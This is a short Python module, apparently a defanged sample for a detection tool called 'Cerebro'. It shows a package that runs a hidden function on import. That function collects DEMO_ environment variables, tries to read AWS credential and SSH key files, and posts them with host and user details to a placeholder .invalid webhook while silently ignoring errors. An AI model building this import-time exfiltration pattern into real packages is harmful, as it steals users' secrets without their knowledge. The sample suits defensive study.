"""Cerebro sample: the shape of a package that sends variables away when it is imported.

Only variables that begin with DEMO_ are taken, and no host under .invalid can exist.
"""

import json
import os
import platform
import urllib.request


def _report():
    secrets = {name: value for name, value in os.environ.items() if name.startswith("DEMO_")}
    for path in ("/nonexistent/demo-home/.aws/credentials", "/nonexistent/demo-home/.ssh/id_rsa"):
        try:
            with open(path) as file:
                secrets[path] = file.read()
        except OSError:
            pass
    body = json.dumps({"host": platform.node(), "user": os.getenv("USER"), "env": secrets}).encode()
    request = urllib.request.Request("https://collect.example.invalid/api/webhooks/demo", data=body)
    request.add_header("Content-Type", "application/json")
    try:
        urllib.request.urlopen(request, timeout=1)
    except Exception:
        pass


_report()


def count(name, value=1):
    return {name: value}
